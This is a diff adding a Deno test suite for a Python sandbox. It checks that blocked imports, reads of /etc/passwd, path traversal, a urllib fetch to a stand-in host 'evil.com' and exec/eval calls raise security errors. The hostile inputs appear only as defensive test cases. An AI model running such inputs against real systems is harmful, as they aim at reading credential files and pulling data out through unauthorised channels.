@@ -1,0 +1,139 @@
+/**
+ * The origin spec's four test classes (SECURITY_MODEL.md, "Testing
+ * Security"), each asserting the specific outcome, plus the guard's contract:
+ * violations are typed, recorded with kind and line, and (by default) end the
+ * script even when it catches them.
+ */
+import { deepEqual, equal, match, ok } from "assert";
+import { Sandbox } from "../src/sandbox.ts";
+
+const sandbox = new Sandbox({ policy: "default" });
+const raisePolicy = new Sandbox({
+  policy: {
+    version: 1,
+    on_violation: "raise",
+    static_check: false,
+    modules: { allow: ["json", "math"], deny: ["os", "sys", "subprocess"] },
+  } as never,
+});
+const ORIGIN = "https://app.example";
+
+async function py(code: string, files?: Record<string, string>) {
+  return await sandbox.run(code, { origin: ORIGIN, files });
+}
+
+Deno.test({
+  name: "spec test classes",
+  sanitizeResources: false,
+  sanitizeOps: false,
+  async fn(t) {
+    for (
+      const mod of ["os", "sys", "subprocess", "socket", "pickle", "importlib", "js", "pyodide"]
+    ) {
+      await t.step(`1. import ${mod} is blocked with ImportBlockedError`, async () => {
+        const r = await py(`x = 1\nimport ${mod}\nprint("after")`);
+        equal(r.ok, false);
+        equal(r.error?.type, "ImportBlockedError");
+        equal(r.stdout, "");
+        equal(r.violations[0].kind, "import");
+        equal(r.violations[0].line, 2);
+        match(r.violations[0].detail, new RegExp(mod));
+      });
+    }
+    await t.step(
+      "1. submodules of denied packages are blocked (urllib.request, xml.etree)",
+      async () => {
+        for (const mod of ["urllib.request", "xml.etree.ElementTree", "http.client"]) {
+          const r = await py(`import ${mod}`);
+          equal(r.error?.type, "ImportBlockedError", mod);
+        }
+      },
+    );
+    await t.step("2. open('/etc/passwd') raises SecurityError (filesystem)", async () => {
+      const r = await py(`f = open('/etc/passwd', 'r')\nprint(f.read())`);
+      equal(r.ok, false);
+      equal(r.error?.type, "SecurityError");
+      equal(r.violations[0].kind, "filesystem");
+      ok(!r.stdout.includes("root:"));
+    });
+    await t.step("2. virtual files are readable; traversal and writes are not", async () => {
+      const files = { "data.csv": "a,b\n1,2\n" };
+      const good = await py(`print(open('data.csv').read().splitlines()[1])`, files);
+      equal(good.ok, true, JSON.stringify(good.error));
+      equal(good.stdout, "1,2\n");
+      for (
+        const bad of [
+          "open('../data.csv')",
+          "open('data.csv', 'w')",
+          "open('data.csv', 'a')",
+          "open('x/../../etc/passwd')",
+        ]
+      ) {
+        const r = await py(bad, files);
+        equal(r.error?.type, "SecurityError", bad);
+        equal(r.violations[0]?.kind, "filesystem", bad);
+      }
+    });
+    await t.step("3. urllib.request.urlopen to another origin is blocked", async () => {
+      const r = await py(
+        `import urllib.request\nresponse = urllib.request.urlopen('http://evil.com/data')`,
+      );
+      equal(r.error?.type, "ImportBlockedError");
+      equal(r.violations[0].kind, "import");
+    });
+    await t.step("4. exec and eval are refused", async () => {
+      for (
+        const code of [
+          `exec('print("malicious code")')`,
+          `eval('__import__("os")')`,
+          `compile('1', 's', 'eval')`,
+        ]
+      ) {
+        const r = await py(code);
+        equal(r.ok, false, code);
+        equal(r.error?.type, "SecurityError", code);
+        ok(!r.stdout.includes("malicious"));
+        ok(r.violations.length >= 1, code);
+      }
+    });
+    await t.step("a caught violation still ends the script (terminate)", async () => {
+      const r = await py(
+        `try:\n    import os\nexcept Exception:\n    print("caught")\nprint("still running")`,
+      );
+      equal(r.ok, false);
+      equal(r.error?.type, "ImportBlockedError");
+      equal(r.stdout, "");
+    });
+    await t.step(
+      "SecurityError subclasses PermissionError; ImportBlockedError is an ImportError",
+      async () => {
+        const r = await raisePolicy.run(
+          `try:\n    import os\nexcept ImportError as e:\n    print(type(e).__name__, isinstance(e, SecurityError), isinstance(e, PermissionError))\n` +
+            `try:\n    open('/etc/passwd')\nexcept PermissionError as e:\n    print(type(e).__name__)\nprint("went on")`,
+        );
+        equal(r.ok, true, JSON.stringify(r));
+        equal(r.stdout, "ImportBlockedError True True\nSecurityError\nwent on\n");
+        deepEqual(r.violations.map((v) => v.kind), ["import", "filesystem"]);
+      },
+    );
+    await t.step("allowed modules work", async () => {
+      const r = await py(
+        `import json, math, random, re, collections, itertools, datetime\n` +
+          `print(json.dumps({'a': math.floor(2.5)}), re.sub('a', 'b', 'aa'), list(itertools.islice(itertools.count(), 3)))\n` +
+          `print(collections.Counter('aab').most_common(1), datetime.date(2020, 1, 2).isoformat())`,
+      );
+      equal(r.ok, true, JSON.stringify(r.error));
+      equal(r.stdout, `{"a": 2} bb [0, 1, 2]\n[('a', 2)] 2020-01-02\n`);
+    });
+    await t.step("a script error is reported with its Python type and traceback", async () => {
+      const r = await py(`def f():\n    return 1 / 0\nf()`);
+      equal(r.ok, false);
+      equal(r.error?.type, "ZeroDivisionError");
+      match(r.error?.traceback ?? "", /line 2/);
+      ok(!(r.error?.traceback ?? "").includes("pyfence_guard"), r.error?.traceback);
+      equal(r.violations.length, 0);
+    });
+    await sandbox.close();
+    await raisePolicy.close();
+  },
+});
